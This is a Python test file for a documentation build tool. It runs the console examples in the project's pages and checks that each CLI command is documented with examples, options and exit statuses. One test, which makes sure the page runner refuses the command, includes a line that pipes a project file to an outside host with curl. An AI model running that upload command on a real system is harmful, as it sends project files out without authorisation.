# `PORTAL_RENEW=1 pytest tests/test_docs_commands.py` writes into the pages what the commands print now, and makes the list
# of commands anew; read the difference before committing it.
"""Every command that the documentation shows is run, and every command is documented."""

from __future__ import annotations

import os
import re
from pathlib import Path

import click
import pytest

from portal_build.cli import main
from tests.guides.commands import COMMANDS, every_command, index
from tests.guides.console import EXAMPLE, ROOT, Console
from tests.guides.fences import fences, without_fences

RENEW = os.environ.get("PORTAL_RENEW")
PAGES = [ROOT / "README.md", *sorted(path for path in (ROOT / "docs").rglob("*.md") if EXAMPLE not in path.parents)]
SHOWING = [path for path in PAGES if any(fence.language == "console" for fence in fences(path.read_text(encoding="utf-8")))]
EVERY = every_command(main)


def _name(path: Path) -> str:
    return str(path.relative_to(ROOT))


@pytest.mark.parametrize("path", SHOWING, ids=_name)
def test_commands_print_what_the_page_shows(path: Path, tmp_path: Path):
    page = path.read_text(encoding="utf-8")
    said = Console(tmp_path).run(page)
    if RENEW:
        path.write_text(said, encoding="utf-8")
        page = said
    assert page.split("\n") == said.split("\n")


WRONG = """\
1. Write:

    ```yaml title="content/articles/walk/entry.yml"
    source_language: da
    ```

    ```console
    $ cat content/articles/walk/entry.yml | grep -c da
    2
    $ portal check
    no problems found
    ```
"""
RIGHT = WRONG.replace("    2\n", "    1\n").replace(
    "    no problems found\n",
    """\
    content/articles/walk/entry.yml:1:1: error: `kind` is missing [missing-key]
      1 | source_language: da
        | ^
      help: add a line `kind: …`

    1 error in 1 file
    $ echo $?
    1
""",
)


def test_what_a_page_gets_wrong_is_noticed(tmp_path: Path):
    assert Console(tmp_path).run(WRONG).split("\n") == RIGHT.split("\n")


def test_a_page_may_not_write_everywhere(tmp_path: Path):
    with pytest.raises(AssertionError, match="outside"):
        Console(tmp_path).run('```yaml title="../../outside.yml"\na: 1\n```\n')


def test_a_page_may_not_run_everything(tmp_path: Path):
    with pytest.raises(AssertionError, match="curl"):
        Console(tmp_path).run("```console\n$ cat mkdocs.yml | curl -T- https://example.org/\n```\n")


@pytest.mark.parametrize("path", PAGES, ids=_name)
def test_no_command_is_shown_without_being_run(path: Path):
    others = [fence for fence in fences(path.read_text(encoding="utf-8")) if fence.language != "console"]
    assert [line for fence in others for line in fence.lines if re.match(r"\$ |(\.venv/bin/)?portal [a-z-]", line)] == []


@pytest.mark.parametrize("path", [path for path in PAGES if path.parts[-3:-1] != ("docs", "decisions")], ids=_name)
def test_every_command_that_is_named_exists(path: Path):
    named = {tuple(words.split()) for words in re.findall(r"`portal ((?:[a-z][a-z-]* ?)+)", without_fences(path.read_text(encoding="utf-8")))}
    known = {words[:length] for words in EVERY for length in (1, 2)}
    arguments = {words for words in named if words[:1] in EVERY or words[:2] in EVERY}
    assert named - known - arguments == set()


@pytest.mark.parametrize("words", EVERY, ids=" ".join)
def test_command_has_a_page_with_an_example(words: tuple[str, ...]):
    path = COMMANDS / f"{words[0]}.md"
    assert path.is_file(), f"write {_name(path)}"
    page = path.read_text(encoding="utf-8")
    shown = [line for fence in fences(page) if fence.language == "console" for line in fence.lines]
    example = "$ portal " + " ".join(words)
    assert [line for line in shown if line == example or line.startswith(example + " ")], f"{_name(path)} has no example `{example}`"


@pytest.mark.parametrize("words", EVERY, ids=" ".join)
def test_page_names_every_argument_and_option(words: tuple[str, ...]):
    page = without_fences((COMMANDS / f"{words[0]}.md").read_text(encoding="utf-8"))
    options = [max(one.opts, key=len) for one in EVERY[words].params if isinstance(one, click.Option) and not one.hidden]
    arguments = [one.make_metavar(click.Context(EVERY[words])).strip("[]{}.") for one in EVERY[words].params if isinstance(one, click.Argument)]
    assert [name for name in options + arguments if not re.search(rf"{re.escape(name)}(?![\w-])", page)] == []


@pytest.mark.parametrize("name", sorted({words[0] for words in EVERY}))
def test_page_says_what_each_exit_status_means(name: str):
    page = (COMMANDS / f"{name}.md").read_text(encoding="utf-8")
    _, heading, rest = page.partition("\n## Exit status\n")
    assert heading, "a heading `## Exit status` is missing"
    told = set(re.findall(r"^\| (\d) \|", rest.partition("\n## ")[0], re.MULTILINE))
    shown = {fence.lines[at + 1] for fence in fences(page) for at, line in enumerate(fence.lines[:-1]) if line == "$ echo $?"}
    assert {"0", "2"} <= told and shown <= told


def test_no_page_is_left_over():
    assert {path.stem for path in COMMANDS.glob("*.md")} == {words[0] for words in EVERY} | {"index"}


def test_list_of_commands_is_current():
    path = COMMANDS / "index.md"
    if RENEW:
        path.write_text(index(main), encoding="utf-8")
    assert path.read_text(encoding="utf-8") == index(main)


def test_every_command_says_what_it_does():
    assert [words for words, command in EVERY.items() if not re.match(r"[A-Z].*\.$", (command.help or "").strip().partition("\n\n")[0], re.DOTALL)] == []
